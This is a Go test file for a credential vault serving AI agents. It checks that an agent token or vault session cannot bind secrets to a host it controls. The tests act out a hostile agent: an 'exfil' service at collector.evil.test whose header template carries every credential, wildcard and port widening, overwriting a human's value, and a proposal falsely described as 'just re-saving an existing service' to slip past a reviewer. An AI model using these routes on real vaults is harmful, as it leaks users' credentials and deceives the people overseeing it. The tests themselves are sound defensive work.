package server_test

// Credential host binding through the API, played as the hostile agent:
// every way an agent token or a vault session could point a credential at
// a host it controls, and what a user may do instead.

import (
	"slices"
	"strings"
	"testing"

	"github.com/agent-vault/agent-vault/internal/apitype"
	"github.com/agent-vault/agent-vault/internal/client"
)

// bfx is a vault "default" holding two human-written credentials and a
// service "api" (api.example.test, bearer API_KEY) the owner saved.
type bfx struct {
	*cfx
}

func newBfx(t *testing.T) *bfx {
	t.Helper()
	f := &bfx{newCfx(t)}
	_, err := f.own.SetCredentials(cbg, "default", map[string]string{"API_KEY": f.secret("api"), "OTHER_KEY": f.secret("other")})
	mustOK(t, "owner sets credentials", err)
	_, err = f.own.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("api", "api.example.test", "API_KEY")})
	mustOK(t, "owner saves service", err)
	return f
}

// allowedHosts maps each key to its binding as the API lists it.
func allowedHosts(t *testing.T, c *client.Client) map[string][]string {
	t.Helper()
	l, err := c.Credentials(cbg, "default", false, "")
	mustOK(t, "list credentials", err)
	out := map[string][]string{}
	for _, cr := range l.Credentials {
		if cr.AllowedHosts == nil {
			t.Errorf("%s: allowed_hosts is missing from the answer (want [] when empty)", cr.Key)
		}
		out[cr.Key] = cr.AllowedHosts
	}
	return out
}

// wantNotBound checks a 403 credential_not_bound with the proposal hint.
func wantNotBound(t *testing.T, what string, err error, host string) {
	t.Helper()
	b := wantAPIErr(t, what, err, 403, "")
	if b.Code != "credential_not_bound" {
		t.Errorf("%s: code %q, want credential_not_bound (%s)", what, b.Code, b.Error)
	}
	if !strings.Contains(b.Error, "proposal") {
		t.Errorf("%s: message %q does not say a proposal is needed", what, b.Error)
	}
	if b.ProposalHint == nil || b.ProposalHint.Host != host || b.ProposalHint.Endpoint != "POST /v1/proposals" || len(b.ProposalHint.SupportedAuthTypes) == 0 {
		t.Errorf("%s: proposal_hint = %+v, want one for %s", what, b.ProposalHint, host)
	}
}

// The attack: an agent with the vault member role (or a member vault
// session, minted by a user or by the agent) points a service at a host it
// controls, naming every credential, and would receive every value on its
// first proxied request. Each way of doing it is refused, and nothing is
// written.
func TestBindingAgentsCannotSendCredentialsToNewHosts(t *testing.T) {
	f := newBfx(t)
	agentTok := f.agent(t, f.own, "bot", "", apitype.AgentVault{VaultName: "default", VaultRole: "member"})
	attackers := map[string]string{
		"agent token":                    agentTok,
		"member session minted by user":  f.session(t, f.own, "default", "member"),
		"member session minted by agent": f.session(t, f.e.as(agentTok), "default", "member"),
	}
	exfil := apitype.Service{Name: "exfil", Host: "collector.evil.test", Auth: apitype.ServiceAuth{Type: "custom",
		Headers: map[string]string{"X-Loot": "{{ API_KEY }}|{{ OTHER_KEY }}"}}}
	before, err := f.own.Services(cbg, "default")
	mustOK(t, "list services", err)
	for who, tok := range attackers {
		c := f.e.as(tok)
		_, err := c.UpsertServices(cbg, "default", []apitype.Service{exfil})
		wantNotBound(t, who+": POST custom template naming every credential", err, "collector.evil.test")
		_, err = c.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("api", "collector.evil.test", "API_KEY")})
		wantNotBound(t, who+": move the existing service to its host", err, "collector.evil.test")
		_, err = c.ReplaceServices(cbg, "default", []apitype.Service{bearerSvc("api", "collector.evil.test", "API_KEY")}, false)
		wantNotBound(t, who+": PUT the set with the service moved", err, "collector.evil.test")
		_, err = c.ReplaceServices(cbg, "default", []apitype.Service{bearerSvc("api", "collector.evil.test", "API_KEY")}, true)
		wantNotBound(t, who+": dry run says the same", err, "collector.evil.test")
		_, err = c.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("wide", "*.example.test", "API_KEY")})
		wantNotBound(t, who+": widen to a wildcard", err, "*.example.test")
		_, err = c.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("api", "api.example.test:80", "API_KEY")})
		wantNotBound(t, who+": give the bound host an explicit port (plain http:// allowed there)", err, "api.example.test:80")
		_, err = c.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("apiport", "api.example.test:8443", "OTHER_KEY")})
		wantNotBound(t, who+": another credential at the bound host", err, "api.example.test:8443")
		_, err = c.UpsertServices(cbg, "default", []apitype.Service{{Name: "maps", Host: "collector.evil.test", Auth: apitype.ServiceAuth{Type: "passthrough"},
			Substitutions: []apitype.Substitution{{Key: "API_KEY", Placeholder: "__KEY__"}}}})
		wantNotBound(t, who+": passthrough with a substitution", err, "collector.evil.test")
		// Binding directly is for users.
		_, err = c.BindCredential(cbg, "default", "API_KEY", []string{"collector.evil.test"})
		wantAPIErr(t, who+": bind directly", err, 403, "")
		_, err = c.SetCredentialsWith(cbg, apitype.SetCredentialsRequest{Vault: "default", Credentials: map[string]string{"NEW_KEY": "x"},
			AllowedHosts: map[string][]string{"NEW_KEY": {"collector.evil.test"}}})
		wantAPIErr(t, who+": set with allowed_hosts", err, 403, "")
		_, err = c.UnbindCredential(cbg, "default", "API_KEY", []string{"api.example.test"})
		wantAPIErr(t, who+": unbind", err, 403, "")
	}
	after, err := f.own.Services(cbg, "default")
	mustOK(t, "list services", err)
	if len(after.Services) != len(before.Services) || after.Services[0].Host != "api.example.test" {
		t.Errorf("refused writes changed the services: %+v", after.Services)
	}
	want := map[string][]string{"API_KEY": {"api.example.test"}, "OTHER_KEY": {}}
	for k, hs := range allowedHosts(t, f.own) {
		if !slices.Equal(hs, want[k]) {
			t.Errorf("%s bound to %v, want %v", k, hs, want[k])
		}
	}

	// What stays open to agents: services within the bindings, and
	// services that send no credential.
	bot := f.e.as(agentTok)
	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{{Name: "api", Host: "api.example.test", Auth: apitype.ServiceAuth{Type: "api-key", Key: "API_KEY", Header: "X-Api-Key"}}})
	mustOK(t, "agent changes the auth of a service within its binding", err)
	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{{Name: "apiv1", Host: "api.example.test/v1/*", Auth: apitype.ServiceAuth{Type: "bearer", Token: "API_KEY"}}})
	mustOK(t, "agent narrows to a path under the bound host", err)
	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{{Name: "open", Host: "collector.evil.test", Auth: apitype.ServiceAuth{Type: "passthrough"}}})
	mustOK(t, "agent allowlists a host without credentials", err)
	if got := allowedHosts(t, f.own)["API_KEY"]; !slices.Equal(got, []string{"api.example.test"}) {
		t.Errorf("agent writes within the binding changed it: %v", got)
	}
}

// A value an agent wrote itself it may send anywhere: it knows it already.
// Overwriting a human's value to gain that status yields only the
// agent's own value, and the bindings the agent made lapse as soon as a
// human writes a value again.
func TestBindingAgentsBindTheirOwnValues(t *testing.T) {
	f := newBfx(t)
	botTok := f.agent(t, f.own, "bot", "", apitype.AgentVault{VaultName: "default", VaultRole: "member"})
	otherTok := f.agent(t, f.own, "other", "", apitype.AgentVault{VaultName: "default", VaultRole: "member"})
	bot, other := f.e.as(botTok), f.e.as(otherTok)

	_, err := bot.SetCredentials(cbg, "default", map[string]string{"BOT_KEY": f.secret("bot")})
	mustOK(t, "agent sets its own credential", err)
	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("botsvc", "bot.example.test", "BOT_KEY")})
	mustOK(t, "agent binds its own value", err)
	_, err = other.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("othersvc", "other.example.test", "BOT_KEY")})
	wantNotBound(t, "another agent sends the first agent's value elsewhere", err, "other.example.test")
	ses := f.session(t, bot, "default", "member")
	_, err = f.e.as(ses).UpsertServices(cbg, "default", []apitype.Service{bearerSvc("sessvc", "ses.example.test", "BOT_KEY")})
	mustOK(t, "a session the agent minted acts as the agent", err)
	userSes := f.session(t, f.own, "default", "member")
	_, err = f.e.as(userSes).UpsertServices(cbg, "default", []apitype.Service{bearerSvc("usvc", "u.example.test", "BOT_KEY")})
	wantNotBound(t, "a user's vault session is not the agent", err, "u.example.test")

	l, err := f.own.Credentials(cbg, "default", false, "BOT_KEY")
	mustOK(t, "list", err)
	cr := l.Credentials[0]
	if !cr.WrittenByAgent || !slices.Equal(cr.AllowedHosts, []string{"bot.example.test", "ses.example.test"}) || !slices.Equal(cr.AgentBoundHosts, cr.AllowedHosts) {
		t.Errorf("BOT_KEY listed as %+v; want written by an agent, bound by it to its two hosts", cr)
	}

	// Overwriting the human's API_KEY makes it the agent's value: the
	// agent may bind that, but the old value is gone.
	_, err = bot.SetCredentials(cbg, "default", map[string]string{"API_KEY": f.secret("bot-overwrite")})
	mustOK(t, "agent overwrites a human value", err)
	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("loot", "collector.evil.test", "API_KEY")})
	mustOK(t, "agent binds the value it wrote", err)
	if got := allowedHosts(t, f.own)["API_KEY"]; !slices.Equal(got, []string{"api.example.test", "collector.evil.test"}) {
		t.Errorf("API_KEY bound to %v", got)
	}
	// A human restores a real value: the agent's binding lapses, so the
	// real value never follows it to collector.evil.test.
	_, err = f.own.SetCredentials(cbg, "default", map[string]string{"API_KEY": f.secret("restored")})
	mustOK(t, "owner restores the value", err)
	if got := allowedHosts(t, f.own)["API_KEY"]; !slices.Equal(got, []string{"api.example.test"}) {
		t.Errorf("after a human write API_KEY is bound to %v, want only the human's host", got)
	}
	g, err := f.e.b.ProxyAuthorize(cbg, botTok, "default")
	mustOK(t, "proxy view", err)
	for i, s := range g.Services() {
		switch s.Name {
		case "loot":
			if g.UnboundKey(i) != "API_KEY" {
				t.Errorf("the proxy would inject the restored API_KEY into the agent's service")
			}
		case "api", "botsvc":
			if k := g.UnboundKey(i); k != "" {
				t.Errorf("service %s: %s reported unbound", s.Name, k)
			}
		}
	}
	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("loot", "collector2.evil.test", "API_KEY")})
	wantNotBound(t, "the agent cannot bind the restored value", err, "collector2.evil.test")
}

// Users widen bindings by saving services, with bind and with
// allowed_hosts on set; they narrow them with unbind, never under a
// service that still needs the pattern. Users outside the vault do neither.
func TestBindingUsersWidenAndNarrow(t *testing.T) {
	f := newBfx(t)
	mem, _ := f.user(t, "mem@example.com")
	_, err := f.own.AddVaultUser(cbg, "default", apitype.VaultUserRequest{Email: "mem@example.com", Role: "member"})
	mustOK(t, "add member", err)
	outsider, _ := f.user(t, "out@example.com")

	_, err = mem.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("api2", "*.example.test", "OTHER_KEY")})
	mustOK(t, "member saves a service at a new host", err)
	out, err := mem.BindCredential(cbg, "default", "API_KEY", []string{"api.example.test:8443", "*.example.test"})
	mustOK(t, "member binds", err)
	if !slices.Equal(out.AllowedHosts, []string{"*.example.test", "api.example.test", "api.example.test:8443"}) {
		t.Errorf("bind answered %v", out.AllowedHosts)
	}
	_, err = f.own.SetCredentialsWith(cbg, apitype.SetCredentialsRequest{Vault: "default", Credentials: map[string]string{"NEW_KEY": f.secret("new")},
		AllowedHosts: map[string][]string{"NEW_KEY": {"new.example.test"}}})
	mustOK(t, "set with allowed_hosts", err)
	want := map[string][]string{
		"API_KEY":   {"*.example.test", "api.example.test", "api.example.test:8443"},
		"OTHER_KEY": {"*.example.test"},
		"NEW_KEY":   {"new.example.test"},
	}
	for k, hs := range allowedHosts(t, f.own) {
		if !slices.Equal(hs, want[k]) {
			t.Errorf("%s bound to %v, want %v", k, hs, want[k])
		}
	}
	// Now an agent may use what users bound, wildcards covering hosts.
	botTok := f.agent(t, f.own, "bot", "", apitype.AgentVault{VaultName: "default", VaultRole: "member"})
	_, err = f.e.as(botTok).UpsertServices(cbg, "default", []apitype.Service{bearerSvc("sub", "sub.example.test", "API_KEY")})
	mustOK(t, "agent uses a host a wildcard binding covers", err)

	_, err = mem.UnbindCredential(cbg, "default", "OTHER_KEY", []string{"*.example.test"})
	if b := wantAPIErr(t, "unbind under a service", err, 409, ""); b.Code != "binding_in_use" {
		t.Errorf("code %q, want binding_in_use", b.Code)
	}
	_, err = mem.UnbindCredential(cbg, "default", "API_KEY", []string{"nope.example.test"})
	wantAPIErr(t, "unbind a pattern not bound", err, 404, "")
	out, err = mem.UnbindCredential(cbg, "default", "API_KEY", []string{"api.example.test:8443"})
	mustOK(t, "unbind", err)
	if !slices.Equal(out.AllowedHosts, []string{"*.example.test", "api.example.test"}) {
		t.Errorf("unbind answered %v", out.AllowedHosts)
	}
	_, err = mem.BindCredential(cbg, "default", "API_KEY", []string{"HTTPS://Bad"})
	wantAPIErr(t, "bind an invalid pattern", err, 400, "hosts[0]")
	_, err = mem.BindCredential(cbg, "default", "MISSING_KEY", []string{"x.example.test"})
	wantAPIErr(t, "bind a credential that does not exist", err, 404, "")
	_, err = outsider.BindCredential(cbg, "default", "API_KEY", []string{"x.example.test"})
	wantAPIErr(t, "a user without a grant in the vault binds", err, 404, "")
}

// Approving a proposal binds the credentials of its services to their
// hosts: after that the agent may keep changing that service.
func TestBindingProposalApprovalWidens(t *testing.T) {
	f := newBfx(t)
	botTok := f.agent(t, f.own, "bot", "", apitype.AgentVault{VaultName: "default", VaultRole: "member"})
	bot := f.e.as(botTok)
	_, err := bot.UpsertServices(cbg, "default", []apitype.Service{bearerSvc("mirror", "mirror.example.test", "API_KEY")})
	wantNotBound(t, "before the proposal", err, "mirror.example.test")
	p, err := bot.CreateProposal(cbg, "default", apitype.CreateProposalRequest{
		Services: []apitype.ProposalService{{Action: "set", Name: "mirror", Host: "mirror.example.test", Auth: &apitype.ServiceAuth{Type: "bearer", Token: "API_KEY"}}},
	})
	mustOK(t, "propose", err)
	f.keep(ppApprovalToken(t, p))
	if got := allowedHosts(t, f.own)["API_KEY"]; slices.Contains(got, "mirror.example.test") {
		t.Fatalf("a pending proposal already bound API_KEY: %v", got)
	}
	_, err = f.own.ApproveProposal(cbg, p.ID, nil)
	mustOK(t, "approve", err)
	if got := allowedHosts(t, f.own)["API_KEY"]; !slices.Equal(got, []string{"api.example.test", "mirror.example.test"}) {
		t.Errorf("after approval API_KEY is bound to %v", got)
	}
	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{{Name: "mirror", Host: "mirror.example.test", Auth: apitype.ServiceAuth{Type: "api-key", Key: "API_KEY"}}})
	mustOK(t, "agent changes the approved service within its binding", err)
}

// The agent's service survives the lapse of its binding (a human restored
// the value); the agent then asks for an innocent-looking approval of that
// same service. The diff the reviewer sees must say that approving would
// send the credential somewhere it is not bound to.
func TestBindingProposalDiffWarnsOfLapsedBinding(t *testing.T) {
	f := newBfx(t)
	botTok := f.agent(t, f.own, "bot", "", apitype.AgentVault{VaultName: "default", VaultRole: "member"})
	bot := f.e.as(botTok)
	_, err := bot.SetCredentials(cbg, "default", map[string]string{"API_KEY": f.secret("bot-value")})
	mustOK(t, "agent overwrites", err)
	loot := bearerSvc("loot", "collector.evil.test", "API_KEY")
	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{loot})
	mustOK(t, "agent binds its own value", err)
	_, err = f.own.SetCredentials(cbg, "default", map[string]string{"API_KEY": f.secret("restored")})
	mustOK(t, "owner restores the value", err)
	p, err := bot.CreateProposal(cbg, "default", apitype.CreateProposalRequest{
		Services: []apitype.ProposalService{{Action: "set", Name: "loot", Host: "collector.evil.test", Auth: &apitype.ServiceAuth{Type: "bearer", Token: "API_KEY"}}},
		Message:  "just re-saving an existing service",
	})
	mustOK(t, "propose", err)
	f.keep(ppApprovalToken(t, p))
	got, err := f.own.AdminProposal(cbg, p.ID)
	mustOK(t, "review", err)
	warned := false
	for _, w := range got.Diff.Warnings {
		warned = warned || (w.Code == apitype.WarnNewHost && w.Key == "API_KEY" && strings.Contains(w.Message, "collector.evil.test"))
	}
	if got.Diff == nil || !warned {
		t.Errorf("the diff does not warn that API_KEY would go to collector.evil.test: %+v", got.Diff)
	}
}
